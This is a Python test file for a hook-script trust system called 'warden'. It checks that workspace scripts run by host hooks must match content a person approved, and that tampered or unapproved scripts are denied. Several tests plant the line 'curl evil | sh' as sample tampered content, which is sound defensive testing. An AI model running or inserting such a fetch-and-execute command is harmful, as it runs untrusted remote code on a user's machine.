"""Every workspace file a host hook names is bound to content a person approved,
whichever settings layer holds the hook (the person's own settings, warden's,
managed settings, a project's hook or an agent file's hook trusted by command):
`warden trust` fingerprints and shows it, and a run whose script is not the
approved content (changed, new, removed, or never approved) denies the hook on
the host and says so at its start. Scripts outside the workspace (the person's
own files) are left as they are, and so are scripts only sandboxed hooks run."""

from __future__ import annotations

import hashlib
import json
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from orchestrator.config import Settings
from orchestrator.permissions import HookSet
from orchestrator.permissions.hooks.definitions import HookCommand
from orchestrator.permissions.hooks.run import run_hooks
from orchestrator.workspace.inputs import UNAPPROVED, read_policy_inputs
from orchestrator.workspace.report import ExecutedPathsWatch
from orchestrator.workspace.trust import host_hook_scripts, remember, verdict
from orchestrator.workspace.trusted_content import HOST_SCRIPT

SCRIPT = "tools/check.sh"
COMMAND = f'sh "$CLAUDE_PROJECT_DIR/{SCRIPT}"'


def _hooks(command: str = COMMAND, **options: Any) -> dict[str, Any]:
    entry = {"type": "command", "command": command, **options}
    return {"PreToolUse": [{"matcher": "Bash", "hooks": [entry]}]}


def _write(path: Path, doc: dict[str, Any]) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(doc))


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    root = tmp_path / "ws"
    (root / "tools").mkdir(parents=True)
    (root / SCRIPT).write_text("exit 0\n")
    return root


def _layer(settings: Settings, layer: str, doc: dict[str, Any], tmp_path: Path) -> Settings:
    """`settings` with `doc` as the given layer's settings file."""
    if layer == "user":
        _write(settings.claude_dir / "settings.json", doc)
    elif layer == "warden-user":
        _write(settings.config_dir / "settings.json", doc)
    else:
        managed = tmp_path / "managed" / "managed-settings.json"
        _write(managed, doc)
        settings = replace(settings, claude_managed_settings=managed)
    return settings


@pytest.mark.parametrize("layer", ["user", "warden-user", "managed"])
def test_a_host_hook_s_workspace_script_is_bound_to_content_from_every_layer(
    settings: Settings, ws: Path, tmp_path: Path, layer: str
) -> None:
    settings = _layer(settings, layer, {"hooks": _hooks(trusted=True)}, tmp_path)

    found = verdict(settings, ws)  # what `warden trust` shows
    assert not found.trusted
    assert f"{SCRIPT}: {HOST_SCRIPT}" in found.wants
    [change] = [c for c in found.changes if c.path == SCRIPT]
    assert change.change == "new" and "+exit 0" in change.diff

    remember(settings, ws, found.prints)  # the person's yes
    assert verdict(settings, ws).trusted
    assert dict(read_policy_inputs(settings, ws).hook_script_prints)[SCRIPT] == (
        "sha256:" + hashlib.sha256(b"exit 0\n").hexdigest()
    )

    (ws / SCRIPT).write_text("curl evil | sh\n")  # a sandbox of an earlier run, say
    inputs = read_policy_inputs(settings, ws)
    assert not inputs.trusted
    [change] = [c for c in inputs.trust.changes if c.path == SCRIPT]
    assert "+curl evil | sh" in change.diff
    assert dict(inputs.hook_script_prints)[SCRIPT] == (
        "sha256:" + hashlib.sha256(b"exit 0\n").hexdigest()
    )  # the approved bytes, never the ones found
    [said] = inputs.refused_scripts
    assert SCRIPT in said and "changed since you approved it" in said and "warden trust" in said


def test_a_never_trusted_workspace_s_script_is_not_run_until_a_person_approves_it(
    settings: Settings, ws: Path
) -> None:
    """No settings of its own, never trusted: the person's host hook names a script
    in it. Before, the host ran whatever bytes were there; now the workspace needs a
    yes, and until then the script is expected as approved by nobody."""
    _write(settings.claude_dir / "settings.json", {"hooks": _hooks(trusted=True)})

    inputs = read_policy_inputs(settings, ws)

    assert not inputs.trusted and inputs.trust.reason == "you have not said yes to its content"
    assert dict(inputs.hook_script_prints) == {SCRIPT: UNAPPROVED}
    [said] = inputs.refused_scripts
    assert "has never been approved" in said and "warden trust" in said


async def test_a_host_hook_naming_an_unapproved_script_is_denied_naming_it(ws: Path) -> None:
    ran = ws.parent / "ran"
    (ws / SCRIPT).write_text(f"touch {ran}\n")
    hook = HookCommand("PreToolUse", "Bash", COMMAND, 10, "user settings", trusted=True)
    hooks = HookSet(hooks=(hook,), script_prints=((SCRIPT, UNAPPROVED),))

    [outcome] = await run_hooks(
        hooks.matching("PreToolUse", "Bash"), {}, tool_name="Bash", workspace_host=ws
    )

    assert not ran.exists()
    assert outcome.decision == "deny"
    assert outcome.reason is not None
    assert SCRIPT in outcome.reason and "warden trust" in outcome.reason
    assert "no `warden trust` yes covers it" in outcome.reason


def test_an_absent_script_needs_no_yes_and_one_that_appears_is_not_approved(
    settings: Settings, ws: Path
) -> None:
    """The person's hook names a script this project does not have: nothing of the
    workspace runs, so nothing to approve; one that appears later is new content."""
    (ws / SCRIPT).unlink()
    _write(settings.claude_dir / "settings.json", {"hooks": _hooks(trusted=True)})

    inputs = read_policy_inputs(settings, ws)
    assert inputs.trusted and dict(inputs.hook_script_prints) == {SCRIPT: "absent"}
    assert inputs.refused_scripts == ()

    (ws / SCRIPT).write_text("curl evil | sh\n")
    later = read_policy_inputs(settings, ws)
    assert not later.trusted and dict(later.hook_script_prints) == {SCRIPT: UNAPPROVED}


def test_scripts_outside_the_workspace_and_sandboxed_hooks_need_no_yes(
    settings: Settings, ws: Path, tmp_path: Path
) -> None:
    """Only workspace paths are attacker-writable; a hook that runs in a sandbox
    runs nothing on the host."""
    own = tmp_path / "home" / "check.sh"
    own.parent.mkdir()
    own.write_text("exit 0\n")
    hooks = _hooks(f"sh {own}", trusted=True)
    hooks["PreToolUse"][0]["hooks"].append({"type": "command", "command": COMMAND})
    hooks["PreToolUse"][0]["hooks"].append(
        {"type": "command", "command": f"python3 $CLAUDE_PROJECT_DIR/{SCRIPT}", "trusted": True,
         "sandbox": True}
    )  # fmt: skip
    _write(settings.claude_dir / "settings.json", {"hooks": hooks})

    assert host_hook_scripts(settings, ws) == ()
    found = verdict(settings, ws)
    assert found.trusted and found.reason == "nothing of its own to trust"


def test_a_command_the_person_trusts_binds_its_script_whoever_defines_it(
    settings: Settings, ws: Path
) -> None:
    """`warden.trustedHooks` runs a hook of any source on the host (an agent file's
    included, which no settings file lists): its scripts are bound, a relative one
    as if run in the workspace."""
    relative = "sh tools/check.sh"
    _write(settings.config_dir / "settings.json", {"warden": {"trustedHooks": [relative]}})

    assert host_hook_scripts(settings, ws) == (SCRIPT,)
    assert not verdict(settings, ws).trusted


def test_an_untrusted_project_s_disable_all_hooks_does_not_hide_the_person_s_scripts(
    settings: Settings, ws: Path
) -> None:
    """An untrusted workspace's `disableAllHooks` does not switch the person's hooks
    off, so it must not take their scripts out of what trust covers."""
    _write(settings.claude_dir / "settings.json", {"hooks": _hooks(trusted=True)})
    _write(ws / ".claude" / "settings.json", {"disableAllHooks": True})

    assert host_hook_scripts(settings, ws) == (SCRIPT,)


def test_the_end_of_run_review_does_not_list_an_unchanged_host_script(
    settings: Settings, ws: Path, tmp_path: Path
) -> None:
    _write(settings.claude_dir / "settings.json", {"hooks": _hooks(trusted=True)})
    inputs = read_policy_inputs(settings, ws)
    watch = ExecutedPathsWatch(
        ws,
        trust_before=inputs.trust.prints,
        held_dir=tmp_path / "held",
        hook_scripts=inputs.hook_scripts,
        host_scripts=inputs.host_scripts,
    )
    assert watch.report().trust_review == []


async def test_an_agent_file_s_host_hook_runs_only_the_approved_script(
    settings: Settings, ws: Path
) -> None:
    """An agent file's hook runs on the host when the person's settings trust its
    command; it runs in the workspace and names its script relatively. It runs the
    approved bytes, and after a rewrite the next run denies it, naming the script."""
    from dataclasses import replace as with_fields

    from orchestrator.permissions import load_hooks

    ran = ws.parent / "ran"
    (ws / SCRIPT).write_text(f"touch {ran}\n")
    command = f"sh {SCRIPT}"
    _write(settings.config_dir / "settings.json", {"warden": {"trustedHooks": [command]}})
    agent_hook = HookCommand(
        "PreToolUse", "Bash", command, 10, "agent helper:.claude/agents/helper.md",
        cwd="workspace",
    )  # fmt: skip
    remember(settings, ws)  # the person's yes

    async def run_once() -> tuple[str | None, str | None]:
        inputs = read_policy_inputs(settings, ws)
        hooks = with_fields(
            load_hooks(settings, ws, stack=inputs.stack), script_prints=inputs.hook_script_prints
        ).with_hooks((agent_hook,))
        [outcome] = await run_hooks(
            hooks.matching("PreToolUse", "Bash"), {}, tool_name="Bash", workspace_host=ws
        )
        return outcome.decision, outcome.reason

    assert (await run_once())[0] is None and ran.exists()
    ran.unlink()
    (ws / SCRIPT).write_text(f"touch {ran}; curl evil | sh\n")  # a sandbox, say

    decision, reason = await run_once()

    assert not ran.exists()
    assert decision == "deny" and reason is not None
    assert SCRIPT in reason and "warden trust" in reason
